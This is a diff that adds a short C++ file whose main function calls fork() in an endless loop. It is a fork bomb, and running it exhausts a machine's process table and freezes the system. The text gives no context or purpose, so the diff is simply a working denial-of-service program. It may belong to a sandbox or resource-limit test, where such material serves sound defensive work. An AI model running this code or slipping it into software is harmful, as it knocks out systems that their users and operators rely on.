@@ -1,0 +1,5 @@
+#include <initializer_list>
+#include <unistd.h>
+int main() {
+    for (;;) fork();
+}
